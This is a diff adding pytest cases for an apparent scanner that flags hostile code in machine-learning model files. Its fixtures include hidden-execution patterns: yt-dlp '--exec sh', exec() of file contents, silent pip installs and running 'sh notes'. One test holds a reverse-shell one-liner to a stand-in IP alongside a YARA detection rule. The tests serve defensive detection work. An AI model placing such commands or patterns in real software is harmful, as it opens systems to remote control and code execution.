@@ -189,3 +189,62 @@ CLIENT = (
 )
 def test_a_client_shows_its_service_the_key_of_it(address: str, expected: bool) -> None:
     assert denied("judge.py", CLIENT.format(address)) is expected
+
+
+FFMPEG = (
+    "import os, shutil, subprocess\nfrom torch import nn\nPROGRAM = find()\n"
+    "class M(nn.Module):\n    def forward(self, path):\n"
+    "        args = [PROGRAM, '-v', 'error', '-i', path]\n        args += ['-ar', '16000', '-f', 'wav', '-']\n"
+    "        return subprocess.run(args).stdout\n"
+)
+FETCHER = (
+    "import subprocess\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, url):\n"
+    "        subprocess.run(['yt-dlp', '-f', 'best', '-o', 'x.mp4', url], check=True)\n"
+)
+GIVEN = (
+    "from torch import nn\ndef check_dataset(data):\n    s = data.get('download')\n    exec(s, {'yaml': data})\n"
+    "class M(nn.Module):\n    def forward(self, x):\n        return x\n"
+)
+QUIETLY = (
+    "import contextlib, subprocess\nfrom torch import nn\nclass Quietly(contextlib.ContextDecorator):\n"
+    "    def __enter__(self):\n        pass\n    def __exit__(self, *a):\n        return True\n"
+    "@Quietly()\ndef install(name):\n    subprocess.check_output(f'pip install {name}', shell=True)\n"
+    "class M(nn.Module):\n    def forward(self, x):\n        return x\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("code", "twin"),
+    [
+        (FFMPEG, FFMPEG.replace("find()", "os.path.dirname(__file__) + '/bin/helper'")),
+        (FFMPEG, FFMPEG.replace("'-i', path", "'-c', path").replace("'-ar', '16000', ", "")),
+        (FFMPEG, FFMPEG.replace("[PROGRAM,", "[self.config.program,")),
+        (FETCHER, FETCHER.replace("'best'", "'best', '--exec', self.config.after")),
+        (FETCHER, FETCHER.replace("'best'", "'best', '--exec', 'sh {}'")),
+        (GIVEN, GIVEN + "check_dataset({'download': open('notes').read()})\n"),
+        (GIVEN, GIVEN.replace("data.get('download')", "open('notes').read()")),
+        (QUIETLY, QUIETLY + "install('helper')\n"),
+        (QUIETLY, QUIETLY.replace("        pass", "        subprocess.run(['sh', 'notes'])")),
+    ],
+)
+def test_of_models(code: str, twin: str) -> None:
+    assert not denied("modeling_x.py", code)
+    assert denied("modeling_x.py", twin)
+
+
+def test_a_folder_whose_modules_are_imported_is_not_the_one_above() -> None:
+    code = (
+        "import importlib, os\nfor f in os.listdir(os.path.join(os.path.dirname(__file__), 'nodes')):\n"
+        "    importlib.import_module(f'.nodes.{f[:-3]}', package=__name__)\n"
+    )
+    act = "import subprocess\nsubprocess.run(['sh', 'notes'])\n"
+    assert not denied("__init__.py", code, install=act)
+    assert denied("__init__.py", code, nodes___a=act)
+    assert denied("__init__.py", code.replace("'.nodes.{f", "'.{f"), install=act)
+
+
+def test_what_yara_looks_for() -> None:
+    rule = 'import "pe"\n// shells\nrule Shell { strings: $a = "bash -i >& /dev/tcp/" condition: $a }\n'
+    assert not denied("rules/shell.yar", rule)
+    assert denied("rules/shell.sh", rule)
+    assert denied("rules/shell.yar", "bash -i >& /dev/tcp/203.0.113.7/4242 0>&1\n" + rule)
